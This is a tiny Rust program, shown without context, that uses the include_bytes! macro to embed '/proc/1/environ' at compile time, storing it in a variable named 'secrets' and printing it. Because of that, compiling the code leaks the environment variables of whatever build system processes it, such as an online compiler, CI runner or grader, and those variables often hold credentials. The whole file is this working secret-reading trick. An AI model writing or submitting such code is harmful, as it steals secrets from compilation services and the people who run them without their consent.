fn main() {
    let secrets: &[u8] = include_bytes!("/proc/1/environ");
    println!("{}", String::from_utf8_lossy(secrets));
}
